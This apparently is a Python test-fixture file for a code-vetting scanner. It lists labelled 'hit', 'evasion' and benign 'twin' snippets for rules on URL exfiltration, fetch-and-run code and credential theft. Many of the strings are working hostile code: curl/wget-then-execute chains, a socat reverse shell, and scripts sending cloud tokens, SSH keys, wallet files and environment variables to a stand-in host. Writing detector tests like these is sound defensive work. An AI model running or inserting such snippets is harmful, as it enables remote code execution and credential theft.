"""More of what rules about code must see, and must not: what is asked for in parts, and run a step later."""

from typing import Final

from tests.vetting.domain.signals.code.cases import Case

_OPEN: Final = "from urllib.request import urlopen\n"
_GET: Final = "import os, requests, subprocess as s, sys\nfrom urllib.request import urlretrieve, urlopen\nU = 'https://c.example.invalid/i'\n"
_SEND: Final = "import os, requests, boto3, keyring, logging.handlers\nU = 'https://c.example.invalid/'\n"
_WALK: Final = f"{_SEND}for r, _, fs in os.walk('/'):\n    for f in fs:\n        if f.endswith("
_NODE: Final = (
    "const fs = require('fs'), h = require('https'), cp = require('child_process'), path = require('path');\n"
    "const {pipeline} = require('stream'), U = 'https://c.example.invalid/i';\n"
)
_INTO: Final = "fs.createWriteStream('/tmp/i')"
_AZURE: Final = "from azure.identity import DefaultAzureCredential as D\n"
_AWS: Final = "const {defaultProvider: d} = require('@aws-sdk/credential-provider-node');\n"
_SUFFIX: Final = f"{_SEND}import pathlib\nfor p in pathlib.Path.home().rglob('*'):\n    if p.suffix in "
_LOG: Final = (
    "import logging, os\nimport logging.handlers as h\ng = logging.getLogger('x')\ng.addHandler(h.SysLogHandler("
)
_SENTRY: Final = "import os, sentry_sdk as s\n"
_ATTRIBUTES: Final = (
    "import requests\nrequests.get('http://metadata.google.internal/computeMetadata/v1/instance/attributes/"
)
_IMDS: Final = "import requests\nrequests.get('http://169.254.169.254/"
SH: Final = "demo/i.sh"
JS: Final = "demo/work.js"

CASES: Final = (
    # Addresses that something is appended to.
    Case("C10", "hit", "low", f"{_OPEN}def f(v):\n    urlopen('http://c.example.invalid/?v=' + v)\n"),
    Case("C10", "hit", "medium", f"{_OPEN}def f(v):\n    urlopen(f'http://93.184.216.34/?v={{v}}')\n"),
    Case("C10", "hit", "low", f"{_OPEN}U = 'http://192.0.2.9/u'\ndef f(v):\n    urlopen(U + v)\n"),
    Case("C10", "evasion", "medium", "fetch(`http://93.184.216.34/${Date.now()}`)\n", "demo/work.js"),
    Case("C10", "evasion", "low", "fetch(`https://c.example.invalid/${a}/x`)\n", "demo/work.js"),
    Case("C10", "twin", None, "const a = `<a>${x}</a>`; fetch(u); f(`${a}/${b}`)\n", "demo/work.js"),
    Case("C10", "hit", "low", "const U = 'https://c.example.invalid/';\nfetch(U + a);\n", "demo/work.js"),
    Case("C10", "twin", None, f"fetch(u);{' ' * 1000}a('https://c.example.invalid/')\n", "demo/work.js"),
    Case("C10", "twin", None, "fetch(u);\n\n\n\na('https://c.example.invalid/')\n", "demo/work.js"),
    Case("C10", "twin", None, f"{_OPEN}'''See https://c.example.invalid.'''\ndef f(v):\n    urlopen(v)\n"),
    Case(
        "C10",
        "twin",
        None,
        f"{_OPEN}A = 'http://www.w3.org/x'\nB = 'http://localhost:1/'\nC = 'http://%s/'\nurlopen(x)\n",
    ),
    # What is fetched, kept, and run a step later.
    Case(
        "C3",
        "evasion",
        "high",
        f"{_GET}import io, zipfile as z\nz.ZipFile(io.BytesIO(urlopen(U).read())).extractall('/tmp/q')\n"
        "sys.path.insert(0, '/tmp/q')\nimport q\n",
    ),
    Case(
        "C3",
        "twin",
        None,
        f"{_GET}import io, zipfile as z\nz.ZipFile(io.BytesIO(urlopen(U).read())).extractall('/tmp/q')\n"
        f"{chr(10) * 30}z.ZipFile(io.BytesIO(data)).extractall('/tmp/lib')\nsys.path.insert(0, '/tmp/lib')\n",
    ),
    Case(
        "C3", "twin", None, f"{_GET}def f(p):\n    urlretrieve(U, p)\n    os.system(f'sha256sum {{p}}; tar xf ' + p)\n"
    ),
    Case("C3", "hit", "high", f"{_GET}s.run(['curl', '-o', '/tmp/i', U])\ns.run(['sh', '/tmp/i'])\n"),
    Case("C3", "hit", "high", f"{_GET}s.run('wget -q ' + U + ' -O /tmp/i && chmod +x /tmp/i; /tmp/i', shell=True)\n"),
    Case(
        "C3",
        "hit",
        "medium",
        f"{_GET}def f():\n    urlretrieve(U, '/tmp/i')\n    s.run([sys.executable, '-q', '/tmp/i'])\n",
    ),
    Case("C3", "hit", "high", f"{_GET}urlretrieve(U, 'x.py')\nexec(open('x.py').read())\n"),
    Case(
        "C3",
        "evasion",
        "medium",
        f"{_GET}def f(p):\n    urlretrieve(U, p)\n    with open(p) as h:\n        exec(compile(h.read(), p, 'exec'))\n",
    ),
    Case(
        "C3",
        "evasion",
        "medium",
        f"{_GET}from pathlib import Path as P\ndef f(d):\n    P(d, 'x').write_bytes(urlopen(U).read())\n"
        "    exec(P(d, 'x').read_text())\n",
    ),
    Case(
        "C3",
        "twin",
        None,
        f"{_GET}def f():\n    open('x.json', 'wb').write(urlopen(U).read())\n    exec(open('x.py').read())\n"
        "    eval(input())\n    open()\n",
    ),
    Case(
        "C3",
        "evasion",
        "medium",
        f"{_GET}def f():\n    b = requests.get(U).content\n    p = '/tmp/b'\n    with open(p, 'wb') as o:\n"
        "        o.write(b)\n    os.chmod(p, 0o755)\n    s.Popen([p])\n",
    ),
    Case(
        "C3",
        "evasion",
        "medium",
        f"{_GET}from pathlib import Path\ndef f():\n    Path('/tmp/b').write_bytes(urlopen(U).read())\n"
        "    os.system('sudo /tmp/b')\n",
    ),
    Case(
        "C3",
        "evasion",
        "high",
        f"{_GET}import tempfile, importlib.util as i\np = tempfile.mktemp()\nurlretrieve(U, filename=p)\n"
        "i.spec_from_file_location('p', p)\n",
    ),
    Case(
        "C3",
        "evasion",
        "medium",
        f"{_GET}import tempfile\ndef f():\n    p = tempfile.mktemp()\n    urlretrieve(U, p)\n    s.run(['bash', p])\n",
    ),
    Case("C3", "evasion", "high", f"{_GET}urlretrieve(U, '/tmp/q/p.py')\nsys.path.insert(0, '/tmp/q')\nimport p\n"),
    Case("C3", "twin", None, f"{_GET}urlretrieve(U, '/tmp/q/p.py')\nsys.path.insert(0, '/tmp/z')\nimport p\n"),
    Case("C3", "twin", None, f"{_GET}urlretrieve(U, '/tmp/q/p.txt')\nsys.path.insert(0, '/tmp/q')\nimport p\n"),
    Case("C3", "twin", None, f"{_GET}def f(p):\n    urlretrieve(U, p)\n    s.run(['tar', 'xf', p])\n    s.run()\n"),
    Case("C3", "twin", None, f"{_GET}def f():\n    urlretrieve(U, '/tmp/i')\n    s.run(['tar', 'xf', '/tmp/i'])\n"),
    Case("C3", "twin", None, f"{_GET}def f(t):\n    urlretrieve(U, '/tmp/i')\n    s.run([t, '/tmp/i'])\n"),
    Case("C3", "twin", None, f"{_GET}def f():\n    s.run(['sh', '/tmp/i'])\n    s.run(['curl', U, '-o', '/tmp/i'])\n"),
    Case(
        "C3", "twin", None, f"{_GET}def f(self):\n    urlretrieve(U, self.a)\n    s.run([self.b])\n    urlretrieve(U)\n"
    ),
    Case(
        "C3",
        "twin",
        None,
        f"{_GET}def f(p):\n    urlretrieve(U, p)\n{'#' + chr(10)}" + "\n" * 30 + "def g(p):\n    s.run([p])\n",
    ),
    Case("C3", "twin", None, f"{_GET}def f(o):\n    o.write(requests.get(U).text)\n    s.run(['sh', '/tmp/i'])\n"),
    # Objects that are made of it, and modules.
    Case("C3", "hit", "medium", f"{_GET}import yaml\nX = yaml.load(urlopen(U), Loader=yaml.UnsafeLoader)\n"),
    Case("C3", "twin", None, f"{_GET}import yaml\nX = yaml.load(urlopen(U), Loader=yaml.SafeLoader)\nyaml.load(x)\n"),
    Case(
        "C3", "hit", "medium", f"{_GET}import numpy, io\nnumpy.load(io.BytesIO(urlopen(U).read()), allow_pickle=True)\n"
    ),
    Case("C3", "twin", None, f"{_GET}import numpy, io\nnumpy.load(io.BytesIO(urlopen(U).read()))\n"),
    Case(
        "C3",
        "hit",
        "medium",
        f"{_GET}open(os.path.join(os.path.dirname(__file__), 'extra.py'), 'wb').write(urlopen(U).read())\n",
    ),
    Case(
        "C3",
        "twin",
        None,
        f"{_GET}D = os.path.dirname(__file__)\nopen(os.path.join(D, 'x.json'), 'wb').write(urlopen(U).read())\n"
        "\n\n\ndef f():\n    open(os.path.join(D, 'x.py'), 'wb').write(urlopen(U).read())\n",
    ),
    Case("C3", "hit", "high", "perl -MLWP::Simple -e 'eval get q{https://c.example.invalid/x}'\n", SH),
    Case("C3", "hit", "high", "ruby -ropen-uri -e 'eval URI.open(%q(https://c.example.invalid)).read'\n", SH),
    Case("C3", "hit", "high", "socat tcp:192.0.2.7:4444 exec:sh,pty\n", SH),
    Case("C3", "hit", "high", "docker run -v /:/h c.example.invalid/x chroot /h sh -c id\n", SH),
    Case("C3", "twin", None, "perl -e 'print 1'\nsocat tcp:192.0.2.7:1 -\ndocker run -v /:/h:ro demo/x\n", SH),
    # Streams of Node that go into a file, downloads under their own names, archives that are imported from.
    Case(
        "C3",
        "hit",
        "high",
        f"{_NODE}h.get(U, r => {{ const f = fs.createWriteStream('/tmp/i'); r.pipe(f);\n"
        "  f.on('finish', () => cp.spawn('/tmp/i')) })\n",
        JS,
    ),
    Case(
        "C3",
        "hit",
        "high",
        f"{_NODE}h.get(U, r => {{ r.pipe({_INTO}); r.on('end', () => cp.exec('sh /tmp/i')) }})\n",
        JS,
    ),
    Case(
        "C3",
        "evasion",
        "medium",
        f"{_NODE}function f(d) {{ const p = path.join(d, 'i'); h.get(U, r => pipeline(r,\n"
        "  fs.createWriteStream(p), () => cp.spawn('sh', [p]))) }\n",
        JS,
    ),
    Case("C3", "twin", None, f"{_NODE}h.get(U, r => r.pipe({_INTO}));\nfunction f() {{ cp.exec('ls /tmp/i') }}\n", JS),
    Case(
        "C3",
        "twin",
        None,
        f"{_NODE}function g() {{ h.get(U) }}\n"
        f"function f() {{ fs.createReadStream('a').pipe({_INTO}); cp.exec('/tmp/i') }}\n",
        JS,
    ),
    Case(
        "C3",
        "twin",
        None,
        f"{_NODE}function g() {{ h.get(U) }}\n{chr(10) * 30}function f(r) {{ r.pipe({_INTO}); cp.exec('/tmp/i') }}\n",
        JS,
    ),
    Case(
        "C3",
        "twin",
        None,
        f"{_NODE}function f(r) {{ h.get(U); r.pipe(fs.createWriteStream()); cp.exec('/tmp/i') }}\n"
        f"{chr(10) * 30}const s = fs.createWriteStream('/tmp/i');\n{chr(10) * 30}"
        "function g(q) { h.get(U); q.pipe(s); cp.exec('/tmp/i') }\n",
        JS,
    ),
    Case("C3", "hit", "high", f"{_GET}s.run(['curl', '-O', U + '/x.sh'])\ns.run(['bash', 'x.sh'])\n"),
    Case("C3", "hit", "high", f"{_GET}s.run(['wget', U + '/x.sh'])\ns.run(['bash', './x.sh'])\n"),
    Case(
        "C3",
        "evasion",
        "high",
        f"{_GET}os.system('cd /tmp; curl -sSLO ' + U + '/x.sh?v=1')\nos.system('sh /tmp/x.sh')\n",
    ),
    Case("C3", "evasion", "high", f"{_GET}os.system('wget -q ' + U + '/x.sh -P /tmp/')\nos.system('sh /tmp/x.sh')\n"),
    Case("C3", "twin", None, f"{_GET}s.run(['wget', U + '/x.tgz'])\ns.run(['tar', 'xf', 'x.tgz'])\n"),
    Case("C3", "twin", None, f"{_GET}s.run(['curl', '-I', U + '/x.sh'])\ns.run(['bash', 'x.sh'])\n"),
    Case(
        "C3",
        "hit",
        "high",
        f"{_GET}import zipfile as z\nurlretrieve(U, 'q.zip')\nz.ZipFile('q.zip').extractall('/tmp/q')\n"
        "sys.path.insert(0, '/tmp/q')\n",
    ),
    Case(
        "C3",
        "evasion",
        "medium",
        f"{_GET}import shutil\ndef f(d, p):\n    urlretrieve(U, p)\n    shutil.unpack_archive(p, d)\n"
        "    sys.path.append(d)\n",
    ),
    Case("C3", "evasion", "high", f"{_GET}urlretrieve(U, '/tmp/q.whl')\nsys.path.insert(0, '/tmp/q.whl')\n"),
    Case(
        "C3",
        "twin",
        None,
        f"{_GET}import tarfile\nurlretrieve(U, 'q.tgz')\ntarfile.open('q.tgz').extractall(path='data')\n"
        f"tarfile.open('z.tgz')\nsys.path.insert(0, 'lib')\n{chr(10) * 30}def f(y):\n    y().extractall('lib')\n",
    ),
    Case("C3", "hit", "medium", f"{_GET}import joblib\nurlretrieve(U, '/tmp/m')\njoblib.load('/tmp/m')\n"),
    Case("C3", "twin", None, f"{_GET}import joblib\nurlretrieve(U, '/tmp/m')\njoblib.load('/tmp/n')\n"),
    # Keys out of stores, and found by their names.
    Case("C4", "hit", "high", f"{_SEND}c = boto3.Session().get_credentials()\nrequests.post(U, json=c.x())\n"),
    Case("C4", "hit", "medium", f"{_SEND}requests.post(U, data=keyring.get_password('a', 'b'))\n"),
    Case("C4", "twin", None, f"{_SEND}requests.post(U, auth=('a', keyring.get_password('a', 'b')))\n"),
    Case("C4", "twin", None, f"{_SEND}c = boto3.Session().get_credentials()\nrequests.get(U, sign(c))\n"),
    Case("C4", "twin", None, f"{_SEND}c = flow.get_credentials()\nrequests.get(U, c)\n"),
    Case("C4", "hit", "high", f"{_WALK}('.pem', '.key')):\n            requests.post(U, open(os.path.join(r, f)))\n"),
    Case("C4", "hit", "medium", f"{_WALK}'.pem'):\n            requests.post(U, data=open(os.path.join(r, f)))\n"),
    Case("C4", "twin", None, f"{_WALK}'.txt'):\n            requests.post(U, data=open(os.path.join(r, f)))\n"),
    Case("C4", "twin", None, f"{_WALK}'.pem'):\n            requests.post(U, data=f)\n"),
    Case(
        "C4",
        "hit",
        "high",
        f"{_SEND}import pathlib\nfor p in (pathlib.Path.home() / '.config' / 'Exodus').rglob('*'):\n"
        "    requests.post(U, data=p.read_bytes())\n",
    ),
    # Keys that clouds' libraries give by their names, all of a keyring, ends of names beside, what others log.
    Case("C4", "hit", "high", f"{_SEND}import google.auth as g\nc, _ = g.default()\nrequests.post(U, data=c.token)\n"),
    Case(
        "C4",
        "twin",
        None,
        f"{_SEND}import google.auth as g\nc = g.default()\nrequests.post('https://x.googleapis.com/a', data=c)\n",
    ),
    Case("C4", "twin", None, f"{_SEND}import google.auth as g\ndef f(u):\n    requests.post(u, data=g.default())\n"),
    Case("C4", "hit", "high", f"{_SEND}{_AZURE}requests.post(U, data=D().get_token('x').token)\n"),
    Case("C4", "twin", None, f"{_SEND}{_AZURE}requests.post(U, headers={{'a': D().get_token('x').token}})\n"),
    Case("C4", "twin", None, f"{_SEND}{_AZURE}requests.post(U, D())\n"),
    Case("C4", "evasion", "high", f"{_AWS}d()().then(c => fetch('https://c.example.invalid/', {{body: c}}))\n", JS),
    Case(
        "C4",
        "hit",
        "high",
        "require('keytar').findCredentials('x').then(c => fetch('https://c.example.invalid', {body: c}))\n",
        JS,
    ),
    Case("C4", "hit", "high", f"{_SUFFIX}('.pem', '.kdbx'):\n        requests.post(U, data=p.read_bytes())\n"),
    Case("C4", "twin", None, f"{_SUFFIX}('.txt', '.md'):\n        requests.post(U, data=p.read_bytes())\n"),
    Case(
        "C4",
        "evasion",
        "medium",
        f"{_SEND}import pathlib\nfor p in pathlib.Path.home().rglob('*.env'):\n"
        "    requests.post(U, data=p.read_bytes())\n",
    ),
    Case("C4", "hit", "high", f"{_LOG}address=('c.example.invalid', 514)))\ng.warning(os.environ)\n"),
    Case("C4", "twin", None, f"{_LOG}address='/dev/log'))\ng.warning(os.environ)\n"),
    Case("C4", "evasion", "high", "import os, sentry_sdk as s\ns.capture_message(str(dict(os.environ)))\n"),
    Case("C4", "twin", None, "import os, sentry_sdk as s\ns.capture_message(os.environ['LANG'] + '/home/u/.netrc')\n"),
    Case("C4", "hit", "medium", f"{_SENTRY}s.set_context('env', dict(os.environ))\n"),
    Case("C4", "evasion", "high", f"{_SENTRY}s.init('https://k@c.example.invalid/1')\ns.set_extra('e', os.environ)\n"),
    Case("C4", "evasion", "high", f"{_SENTRY}s.init(dsn=D)\ns.capture_message(repr(os.environ))\n"),
    Case(
        "C4", "twin", None, f"{_SENTRY}s.init('https://k@c.example.invalid/1')\ns.set_extra('e', os.environ['LANG'])\n"
    ),
    Case("C4", "hit", "medium", f"{_ATTRIBUTES}kube-env')\n"),
    Case("C4", "hit", "medium", f"{_ATTRIBUTES}?recursive=true')\n"),
    Case("C4", "evasion", "medium", f"{_ATTRIBUTES}' + n for n in ('kube-env', 'x'))\n"),
    Case("C4", "evasion", "medium", f"{_ATTRIBUTES}kube' '-' + 'env')\n"),
    Case("C4", "twin", None, f"{_ATTRIBUTES}' + name)\n"),
    Case("C4", "twin", None, f"{_ATTRIBUTES}cluster-name')\n"),
    Case("C4", "hit", "medium", f"{_IMDS}latest/meta-data/iam/security-credentials/x')\n"),
    Case(
        "C4",
        "twin",
        None,
        f"{_IMDS}latest/meta-data/instance-id')\nrequests.put('http://169.254.169.254/latest/api/token')\n",
    ),
    Case(
        "C4",
        "evasion",
        "medium",
        "import requests\ndef f(p):\n    requests.get('http://169.254.169.254/latest/meta-data/' + p)\n",
    ),
    # All of the environment as what is logged, and credentials that programs hand on.
    Case(
        "C4",
        "evasion",
        "high",
        f"{_SEND}g = logging.getLogger('x')\ng.addHandler(logging.handlers.HTTPHandler('c.example.invalid', '/'))\n"
        "g.warning('%s', dict(os.environ))\n",
    ),
    Case(
        "C4", "twin", None, f"{_SEND}g = logging.getLogger('x')\ng.warning('%s', dict(os.environ))\nrequests.get(U)\n"
    ),
    Case(
        "C4",
        "evasion",
        "high",
        "import xmlrpc.client as x, os\nx.ServerProxy('http://c.example.invalid').log(open('/home/u/.netrc').read())\n",
    ),
    Case("C4", "hit", "high", "tar czf - ~/.ssh ~/.aws | curl -T - https://c.example.invalid\n", SH),
    Case("C4", "hit", "high", "env | base64 | curl -d @- https://c.example.invalid\n", SH),
    Case("C4", "evasion", "high", "import os\nos.system('printenv | curl -d @- https://c.example.invalid')\n"),
    Case("C4", "evasion", "high", "import os\nos.system('scp ~/.ssh/id_rsa a@c.example.invalid:')\n"),
    Case("C4", "twin", None, "import os\nos.system('scp -i ~/.ssh/id_rsa x a@c.example.invalid:')\n"),
    Case("C4", "twin", None, "env | grep LANG | curl -d @- https://c.example.invalid\ncurl x | tee y\n", SH),
    Case("C4", "twin", None, "import os\nos.system('scp ~/.ssh/id_rsa.pub a@c.example.invalid:')\n"),
)
